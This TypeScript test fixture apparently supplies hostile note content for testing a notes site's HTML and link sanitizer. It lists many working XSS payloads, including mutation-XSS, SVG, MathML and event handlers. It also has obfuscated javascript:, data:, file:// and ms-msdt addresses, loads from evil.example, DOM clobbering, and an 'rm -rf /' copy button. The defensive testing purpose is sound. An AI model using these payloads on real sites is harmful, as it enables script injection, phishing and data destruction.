import { note } from '../hostile-case.ts';
import type { HostileCase } from '../hostile-case.ts';

/** A call that the traps of the browser tests see. */
const RUN = 'alert(document.domain)';
const IMAGE = `<img src=x onerror=${RUN}>`;

/** HTML in notes: each piece is followed by a paragraph that must be on the page. */
const PIECES: Readonly<Record<string, string>> = {
  script: `<script>${RUN}</script>`,
  'script-inline': `text <script>${RUN}</script> more`,
  'script-in-script': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'script-case-and-space': `<ScRiPt\n\t>${RUN}</sCrIpT >`,
  'script-source': '<script src="https://evil.example/x.js"></script><script src=//evil.example/y.js></script>',
  'script-module': '<script type="module">import("https://evil.example/x.js")</script>',
  'speculation-rules':
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://evil.example"]}]}</script>',
  'script-json-break': `<script type="application/json"></script>${IMAGE}</script>`,
  image: `a ${IMAGE} b`,
  'image-slashes': `<img/src="x"/onerror=${RUN}>`,
  'image-srcset': '<img srcset="https://evil.example/a.png 2x" src="https://evil.example/b.png">',
  'image-lowsrc': '<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1) longdesc=javascript:alert(1)>',
  picture: '<picture><source srcset="https://evil.example/a.png"><img src="https://evil.example/b.png"></picture>',
  'svg-load': `<svg onload=${RUN}></svg>`,
  'svg-script': `<svg><script>${RUN}</script></svg>`,
  'svg-animate': `<svg><a><animate attributeName=href values=javascript:${RUN} /><text x=20 y=20>x</text></a></svg>`,
  'svg-set': `<svg><set attributeName=onmouseover to=${RUN}></svg>`,
  'svg-use': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  'svg-foreign': `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  'svg-image': '<svg><image href="https://evil.example/x.png" xlink:href="https://evil.example/y.png"/></svg>',
  'svg-style': '<svg><style>@import "https://evil.example/x.css";</style></svg>',
  math: `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
  'math-action': `<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:${RUN}">x</maction></math>`,
  'mutation-math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  'mutation-svg': `<svg></p><style><a id="</style>${IMAGE}">`,
  'mutation-form': `<form><math><mtext></form><form><mglyph><style></math>${IMAGE}`,
  'mutation-noscript': `<noscript><p title="</noscript>${IMAGE}"></noscript>`,
  'mutation-select': `<select><option><style></option></select>${IMAGE}</style>`,
  'mutation-textarea': `<textarea><img title="</textarea>${IMAGE}"></textarea>`,
  'mutation-title': `<title></title>${IMAGE}</title>`,
  'mutation-xmp': `<xmp></xmp>${IMAGE}</xmp>`,
  'mutation-plaintext': `<div><plaintext>${IMAGE}\n\n</div>`,
  'mutation-comment': `<!--><img src=x onerror=${RUN}>-->`,
  'mutation-comment-bang': `<!-- --!>${IMAGE}<!-- -->`,
  'mutation-cdata': `<![CDATA[${IMAGE}]]>`,
  'mutation-cdata-svg': `<svg><![CDATA[</svg>${IMAGE}]]></svg>`,
  'mutation-instruction': `<?xml-stylesheet href="javascript:${RUN}"?><?php ${IMAGE} ?>`,
  'mutation-template': `<template><template>${IMAGE}</template></template>`,
  'mutation-shadow': `<div><template shadowrootmode="open">${IMAGE}<slot></slot></template></div>`,
  'mutation-table': `<table><caption><svg><desc><table><td>${IMAGE}`,
  'mutation-deep': `${'<div>'.repeat(600)}${IMAGE}`,
  frame: `<iframe src="javascript:${RUN}"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  frameset: `<frameset onload=${RUN}><frame src="https://evil.example"></frameset>`,
  object:
    '<object data="https://evil.example/x.swf"><param name=a value=b></object><embed src="https://evil.example/x">',
  applet: '<applet code="x" archive="https://evil.example/x.jar"></applet>',
  media: `<video src="https://evil.example/v" poster="https://evil.example/p" onerror=${RUN}></video><audio src=x onerror=${RUN}>`,
  form: `<form action="https://evil.example"><input name=password autofocus onfocus=${RUN}><button formaction="javascript:${RUN}">go</button></form>`,
  'form-outside':
    '<input form=search-form name=q value=x><button type=submit form=search-form formaction=https://evil.example>x</button>',
  'form-image': '<input type=image src="https://evil.example/x.png"><isindex action="https://evil.example">',
  base: '<base href="https://evil.example/"><base target="_blank">',
  meta: `<meta http-equiv="refresh" content="0;url=https://evil.example"><meta http-equiv="Content-Security-Policy" content="script-src *">`,
  link: '<link rel=stylesheet href="https://evil.example/x.css"><link rel="preload prefetch dns-prefetch preconnect" href="https://evil.example">',
  style: '<style>*{display:none}@import url(https://evil.example/x.css);</style>',
  'style-attribute': '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">x</div>',
  handlers: `<b onclick=${RUN} onpointerrawupdate=${RUN} ONTOGGLE=${RUN} onbeforematch=${RUN} popover hidden=until-found>x</b>`,
  details: `<details open ontoggle=${RUN}><summary>x</summary>y</details>`,
  dialog: `<dialog open><form method=dialog>${RUN}</form></dialog>`,
  marquee: `<marquee onstart=${RUN} loop=1>x</marquee>`,
  body: `<body onload=${RUN} background="https://evil.example/x"><html manifest="https://evil.example/x">`,
  'out-of-article': '</article></main></body></html><footer id=end>x</footer>',
  'names-of-the-page':
    '<img name=getElementById><a id=body name=cookie href=x>x</a><div id=documentElement>y</div><form name=forms></form>',
  'ids-of-ours':
    '<div id=main>a</div><div id=search-form>b</div><div id=theme>c</div><p id="__proto__">d</p><p id="constructor">e</p>',
  'classes-of-ours':
    '<section class="query-block" data-path="Secret.md"><a data-note-path="Secret.md" href="/">x</a></section>',
  'elements-of-ours':
    '<atomic-inputs><td data-input="x">y</td></atomic-inputs><button data-copy="rm -rf /">copy</button>',
  'pagefind-marks':
    '<div data-pagefind-body data-pagefind-meta="title:Owned" data-pagefind-filter="kind:Owned" data-pagefind-index-attrs="title">x</div>',
  'custom-elements': '<x-note onclick=alert(1)></x-note><button is="x-button">x</button>',
  'nul-in-tag': `<scr\0ipt>${RUN}</scr\0ipt><img\0src=x onerror=${RUN}>`,
  'separators-in-tag': `<img\u2028src=x\u2029onerror=${RUN}>`,
  'overlong-attribute': `<a href="https://example.org/${'a'.repeat(20_000)}">x</a>`,
  entities: `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62;`,
};

/** Addresses that run or load; `[x](…)`, `![x](…)`, `<…>`, references and HTML all get each. */
const ADDRESSES: Readonly<Record<string, string>> = {
  plain: `javascript:${RUN}`,
  case: `JaVaScRiPt:${RUN}`,
  tab: `java\tscript:${RUN}`,
  newline: `java&#10;script:${RUN}`,
  control: `\u0001javascript:${RUN}`,
  space: `  javascript:${RUN}`,
  'no-break-space': `\u00A0javascript:${RUN}`,
  entity: `&#106;&#x61;vascript&colon;${RUN}`,
  percent: `%6aavascript:${RUN}`,
  'zero-width': `java\u200Bscript:${RUN}`,
  'full-width': `ｊavascript:${RUN}`,
  authority: `javascript://example.org/%0a${RUN}`,
  vbscript: 'vbscript:msgbox(1)',
  livescript: `livescript:${RUN}`,
  data: `data:text/html,<script>${RUN}</script>`,
  'data-base64': 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data-svg': `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  blob: 'blob:https://example.org/1234',
  file: 'file:///etc/passwd',
  'file-system': 'filesystem:https://example.org/x',
  'view-source': 'view-source:https://example.org',
  about: 'about:blank',
  'other-host': '//evil.example/x',
  'no-host': 'https:evil.example',
  'ms-handler': 'ms-msdt:/id PCWDiagnostic',
  'search-ms': 'search-ms:query=x&crumb=location:%5C%5Cevil.example',
  share: '\\\\evil.example\\share\\x.png',
};

function addressNote(address: string): string {
  return [
    `[one](<${address}>) ![two](<${address}>) [[${address}|three]] ![[${address}]] [four][r] ![five][r]`,
    `<a href="${address.replaceAll('"', '&quot;')}">six</a> <img src="${address.replaceAll('"', '&quot;')}" alt=seven>`,
    `<q cite="${address}">eight</q> <a xlink:href="${address}" ping="${address}" target=_blank>nine</a>`,
    `[r]: <${address}>`,
    'The end.',
  ].join('\n\n');
}

/** Ids that pages have of their own, and headings that would be slugged to such. */
const OUR_IDS = ['siteNav', 'pageContent', 'linkedFrom', 'site-nav', 'page-content', 'linked-from', 'rules', 'tests'];

/** Harm in the text of notes. */
export const markup: readonly HostileCase[] = [
  ...Object.entries(PIECES).map(([name, html]) =>
    note(`html-${name}`, `# Note\n\n${html}\n\nThe end.\n`, { shows: ['The end.'] }),
  ),
  ...Object.entries(ADDRESSES).map(([name, address]) =>
    note(`address-${name}`, addressNote(address), { shows: ['The end.'] }),
  ),
  note('headings-of-ours', OUR_IDS.map((id) => `## ${id}\n\ntext [[#${id}]] ^${id}\n`).join('\n'), {
    shows: ['linkedFrom'],
  }),
  note('address-reported', 'a <b>b</b>\n\nc <a href="javascript:alert(1)">d</a>\n', { codes: ['links/unsafe'] }),
];
